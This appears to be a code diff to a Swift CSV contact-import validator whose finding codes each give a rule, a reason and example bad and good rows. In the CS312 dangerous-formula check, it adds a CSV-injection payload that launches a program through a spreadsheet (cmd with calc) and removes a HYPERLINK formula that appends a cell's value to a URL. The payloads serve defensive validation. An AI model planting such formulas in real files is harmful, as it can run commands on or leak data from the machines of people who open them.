@@ -7,37 +7,43 @@ public enum CSVContactCodes {
     "CS201", "no-header", .error,
     rule: "The first record names the columns.",
     why: "Without names nobody can tell which column is which.",
-    section: "RFC 4180 2.3", bad: "Ada,ada@example.org\n", good: "Name,Email\nAda,ada@example.org\n")
+    section: "RFC 4180 2.3", bad: "ada@example.org,Ada Lovelace\nbob@example.org,Bob\n",
+    good: "Email,Name\nada@example.org,Ada Lovelace\nbob@example.org,Bob\n")
   /// Two columns have one name.
   public static let duplicateHeader = FindingCode(
     "CS203", "duplicate-header", .error,
     rule: "Every column has a name of its own.",
     why: "Of two equal names the profile knows one; the values of the other are kept under the name and may belong "
-      + "elsewhere.", bad: "Name,Email,Email\n", good: "Name,Email,Email 2\n")
+      + "elsewhere.", bad: "Name,Email,Email\nAda,ada@example.org,a@example.com\n",
+    good: "Name,Email,Email 2\nAda,ada@example.org,a@example.com\n")
   /// A column has no name.
   public static let blankHeader = FindingCode(
     "CS204", "blank-header", .warning,
     rule: "Every column that holds values has a name.",
-    why: "Nobody can tell what they are. They are kept without a name.", bad: "Name,,Email\n",
-    good: "Name,Notes,Email\n")
+    why: "Nobody can tell what they are. They are kept without a name.",
+    bad: "Name,,Email\nAda,Countess,ada@example.org\n",
+    good: "Name,Title,Email\nAda,Countess,ada@example.org\n")
   /// A column's name is spelt in another way than the product spells it.
   public static let headerSpelling = FindingCode(
     "CS205", "header-spelling", .note,
     rule: "The columns are named as the product names them, to the letter.",
     why: "It was understood here; other programs compare case, blanks and hyphens too.",
-    bad: "Email 1 - value", good: "E-mail 1 - Value")
+    bad: "First Name,Email 1 - value\nAda,ada@example.org\n",
+    good: "First Name,E-mail 1 - Value\nAda,ada@example.org\n")
   /// A column that the profile does not know.
   public static let unknownColumn = FindingCode(
     "CS206", "unknown-column", .warning,
     rule: "Every column has a meaning in the profile.",
     why: "Its values have no field in a contact. They are kept under the column's name (X-CUSTOM-FIELD).",
-    bad: "First Name,Shoe Size\n", good: "First Name,Notes\n")
+    bad: "First Name,Email,Shoe Size\nAda,ada@example.org,38\n",
+    good: "First Name,Email,Notes\nAda,ada@example.org,shoes: 38\n")
   /// Which product's columns these are.
   public static let profileGuessed = FindingCode(
     "CS207", "profile-guessed", .note,
     rule: "The columns are those of one product.",
     why: "The profile decides what the columns mean; --from names it where the guess is wrong.",
-    bad: "Name,Phone,E-Mail\n", good: "--from google-csv")
+    bad: "Name,Phone,Email\nAda,+1 555 0100,ada@example.org\n",
+    good: "--from google-csv")
   /// The columns are not those of the profile that was named.
   public static let profileMismatch = FindingCode(
     "CS209", "profile-mismatch", .error,
@@ -49,19 +55,22 @@ public enum CSVContactCodes {
     "CS210", "no-identity-column", .error,
     rule: "A contact has a column for a name, an organization, an e-mail address or a phone number.",
     why: "A table without any of them holds no contacts.",
-    bad: "Date,Amount\n", good: "Name,Email\n")
+    bad: "Date,Amount\n2024-01-01,12\n",
+    good: "Name,Amount,Email\nAda,12,ada@example.org\n")
   /// A numbered group lacks a column.
   public static let incompleteGroup = FindingCode(
     "CS211", "incomplete-column-group", .warning,
     rule: "A numbered group has a column for its value, and the numbers have no gap.",
     why: "A label without a value says nothing, and some programs stop reading at the first number that is missing.",
-    bad: "Phone 1 - Label,Phone 3 - Value", good: "Phone 1 - Label,Phone 1 - Value")
+    bad: "First Name,E-mail 1 - Value,Phone 1 - Label,Phone 3 - Value\nAda,ada@example.org,Home,+1 555 0100\n",
+    good: "First Name,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value\nAda,ada@example.org,Home,+1 555 0100\n")
   /// The columns are named in another language than English.
   public static let localizedHeader = FindingCode(
     "CS212", "localised-header", .note,
     rule: "The columns are named in a language that is known for the product.",
     why: "Outlook, Windows Mail and Thunderbird name them in the language of their user, and some names twice.",
-    bad: "Vorname,Nachname,Anzeigename\n", good: "First Name,Last Name,Display Name\n")
+    bad: "Vorname,Nachname,Anzeigename,Primäre E-Mail-Adresse\nAda,Lovelace,Ada Lovelace,ada@example.org\n",
+    good: "First Name,Last Name,Display Name,Primary Email\nAda,Lovelace,Ada Lovelace,ada@example.org\n")
   /// Columns with unknown names were read by where they stand.
   public static let assumedOrder = FindingCode(
     "CS213", "assumed-order", .note,
@@ -80,19 +89,22 @@ public enum CSVContactCodes {
     "CS301", "empty-contact", .warning,
     rule: "A record has a name, an organization, an e-mail address or a phone number.",
     why: "LinkedIn writes such records for members who hide everything but the date. What there is was kept.",
-    bad: ",,,30 Apr 2024\n", good: "Ada,Lovelace,ada@example.org,30 Apr 2024\n")
+    bad: "Name,Email,Birthday\n,,1815-12-10\n",
+    good: "Name,Email,Birthday\nAda,,1815-12-10\n")
   /// An e-mail address that is none.
   public static let badEmail = FindingCode(
     "CS302", "csv-bad-email", .warning,
     rule: "A cell for an e-mail address holds one.",
     why: "An address has one @ and no blanks. It was kept as it stands.", section: "RFC 5322 3.4.1",
-    bad: "ada at example.org", good: "ada@example.org")
+    bad: "Name,Email\nAda,ada at example.org\n",
+    good: "Name,Email\nAda,ada@example.org\n")
   /// A number in scientific notation.
   public static let spreadsheetNumber = FindingCode(
     "CS303", "csv-spreadsheet-number", .error,
     rule: "A phone number has all of its digits.",
     why: "A spreadsheet took the number for a quantity and rounded it; only the original file has the digits.",
-    bad: "1.55501E+11", good: "+15550100123")
+    bad: "Name,Phone\nAda,1.55501E+11\n",
+    good: "Name,Phone\nAda,+15550100123\n")
   /// The date order cannot be told.
   public static let ambiguousDate = FindingCode(
     "CS305", "ambiguous-date", .warning,
@@ -100,47 +112,55 @@ public enum CSVContactCodes {
     why: "03/04/2021 is a day in March or in April. A date with a 13th month in any row decides for its column. Where "
       + "there is none, the month comes first under an English header and the day under every other; where a column has "
       + "both orders, what could be both stays text. --date-order names the order.",
-    bad: "03/04/2021", good: "2021-04-03")
+    bad: "Name,Birthday\nAda,03/04/2021\n",
+    good: "Name,Birthday\nAda,2021-04-03\n")
   /// No such day.
   public static let badDate = FindingCode(
     "CS306", "csv-bad-date", .warning,
     rule: "A date is a day of the calendar.",
-    why: "It could not be read and was kept as text.", bad: "31/02/1990", good: "28/02/1990")
+    why: "It could not be read and was kept as text.", bad: "Name,Birthday\nAda,31/02/1990\n",
+    good: "Name,Birthday\nAda,28/02/1990\n")
   /// A URL that is none.
   public static let badURL = FindingCode(
     "CS307", "bad-url", .warning,
     rule: "A cell for a web page holds a URL.",
     why: "It has blanks or neither a dot nor a colon. It was kept as it stands.",
-    section: "RFC 3986 3", bad: "my page", good: "https://example.org")
+    section: "RFC 3986 3", bad: "Name,Website\nAda,my page\n",
+    good: "Name,Website\nAda,https://example.org\n")
   /// Several values in one cell that are not parted as Google parts them.
   public static let brokenMultiValue = FindingCode(
     "CS308", "broken-multi-value", .warning,
     rule: "Several values in one cell are parted by three colons with a blank on either side.",
     why: "Somebody has edited the cell. It was kept as one value, because nobody can tell where the next one begins.",
-    bad: "+1 555 0100 :: +1 555 0101", good: "+1 555 0100 ::: +1 555 0101")
+    bad: "First Name,Phone 1 - Label,Phone 1 - Value\nAda,Home,+1 555 0100 :: +1 555 0101\n",
+    good: "First Name,Phone 1 - Label,Phone 1 - Value\nAda,Home,+1 555 0100 ::: +1 555 0101\n")
   /// A label stands beside no value.
   public static let typeWithoutValue = FindingCode(
     "CS309", "type-without-value", .note,
     rule: "A label has a value beside it.", why: "The label says nothing and was left out.",
-    bad: "Phone 1 - Label: Home, Phone 1 - Value: (empty)", good: "both empty")
+    bad: "First Name,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value\nAda,ada@example.org,Home,\n",
+    good: "First Name,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value\nAda,ada@example.org,,\n")
 
   /// A cell that a spreadsheet would take for a formula.
   public static let formulaCell = FindingCode(
     "CS311", "formula-cell", .warning,
     rule: "A cell does not begin with a sign that makes it a formula.",
     why: "A spreadsheet runs it instead of showing it. It was kept as it stands; --spreadsheet-safe writes it guarded.",
-    section: "CWE-1236", bad: "=1+1", good: "1+1")
+    section: "CWE-1236", bad: "Name,Notes\nAda,=1+1\n",
+    good: "Name,Notes\nAda,1+1\n")
   /// A formula that reaches out of the spreadsheet.
   public static let dangerousFormula = FindingCode(
     "CS312", "dangerous-formula", .error,
     rule: "A cell is no formula that starts a program or sends data away.",
     why: "Opened in a spreadsheet it does. It was kept as text; --spreadsheet-safe writes it guarded.",
-    section: "CWE-1236", bad: "=HYPERLINK(\"https://example.org/?\"&A1)", good: "https://example.org")
+    section: "CWE-1236", bad: "Name,Notes\nAda,=cmd|'/C calc'!A0\n",
+    good: "Name,Notes\nAda,no formula\n")
   /// An error of a spreadsheet.
   public static let spreadsheetError = FindingCode(
     "CS313", "spreadsheet-error", .error,
     rule: "A cell holds a value.", why: "A formula of a spreadsheet failed, or a column was too narrow to be exported.",
-    bad: "#REF!", good: "Lovelace")
+    bad: "Name,Email\n#REF!,ada@example.org\n",
+    good: "Name,Email\nLovelace,ada@example.org\n")
   /// A cell as long as programs allow.
   public static let cutCell = FindingCode(
     "CS314", "cut-cell", .warning,
@@ -153,25 +173,29 @@ public enum CSVContactCodes {
     rule: "A cell holds its value and no guard for spreadsheets.",
     why:
       "Another export has put it there. It was kept, because a value may begin like that; --spreadsheet-safe takes it off.",
-    bad: "'+1 555 0100", good: "+1 555 0100")
+    bad: "Name,Phone\nAda,'+1 555 0100\n",
+    good: "Name,Phone\nAda,+1 555 0100\n")
   /// A value stands in another column than its own.
   public static let wrongColumn = FindingCode(
     "CS317", "value-in-wrong-column", .warning,
     rule: "A column for phones holds phones.", why: "Columns were moved against each other, or typed into wrongly.",
-    bad: "Phone: ada@example.org", good: "Phone: +1 555 0100")
+    bad: "Name,Phone\nAda,ada@example.org\n",
+    good: "Name,Phone\nAda,+1 555 0100\n")
   /// A line break in a value of one line.
   public static let lineBreakInLine = FindingCode(
     "CS320", "line-break-in-single-line-field", .note,
     rule: "A phone number or e-mail address is one line.",
     why: "Two values may stand in one cell; it was kept as it is.",
-    bad: "\"+1 555 0100\n+1 555 0101\"", good: "+1 555 0100")
+    bad: "Name,Phone\nAda,\"+1 555 0100\n+1 555 0101\"\n",
+    good: "Name,Phone\nAda,+1 555 0100\n")
   /// A word that Outlook does not have.
   public static let badEnumeration = FindingCode(
     "CS321", "bad-enumeration", .warning,
     rule:
       "Priority is Low, Normal or High; Sensitivity Normal, Personal, Private or Confidential; Private True or False.",
     why: "Outlook knows no other words. It was kept as it stands.",
-    bad: "Priority: urgent", good: "Priority: High")
+    bad: "First Name,Last Name,Business Phone,E-mail Type,Priority\nAda,Lovelace,+1 555 0100,SMTP,urgent\n",
+    good: "First Name,Last Name,Business Phone,E-mail Type,Priority\nAda,Lovelace,+1 555 0100,SMTP,High\n")
   /// A value stands in the notes.
   public static let valueInNotes = FindingCode(
     "CS322", "value-in-notes", .note,
